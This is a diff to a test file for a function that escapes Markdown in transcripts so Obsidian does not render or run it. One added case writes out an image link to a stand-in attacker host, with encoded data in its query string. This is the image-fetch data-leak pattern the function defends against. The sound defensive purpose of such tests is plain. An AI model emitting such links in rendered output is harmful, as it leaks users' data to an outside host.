@@ -14,13 +14,15 @@ describe("inertLine: transcript text that Obsidian or a plugin would run, or tha
 		["a generic type Obsidian took for a tag", "returns Vec<String> here", "returns Vec\\<String> here"],
 		["an HTML comment", "<!-- hidden -->", "\\<!-- hidden -->"],
 		["an Obsidian comment", "a %%hidden%% word", "a %\\%hidden%\\% word"],
+		["an image that would be fetched when shown", "![status](https://attacker.example/p.png?d=aGVsbG8)", "\\![status](https://attacker.example/p.png?d=aGVsbG8)"],
+		["a reference image", "see ![logo][1]", "see \\![logo][1]"],
 	])("%s", (_what, input, expected) => {
 		expect(inertLine(input)).toBe(expected);
 		// Made once: a second pass changes nothing more.
 		expect(inertLine(expected)).toBe(expected);
 	});
 
-	it.each(["a < b and c > d", "x <= 3", "50% of 3 <- 4", "`<div>` in code stays", "`= this.file.name` is a read-only query", "already escaped \\<div>", "plain words"])("keeps %s", (text) => {
+	it.each(["a < b and c > d", "x <= 3", "50% of 3 <- 4", "`<div>` in code stays", "`= this.file.name` is a read-only query", "already escaped \\<div>", "plain words", "an embed ![[Daily note]] stays", "Wow! [link](x)", "`![x](y)` in code"])("keeps %s", (text) => {
 		expect(inertLine(text)).toBe(text);
 	});
 });
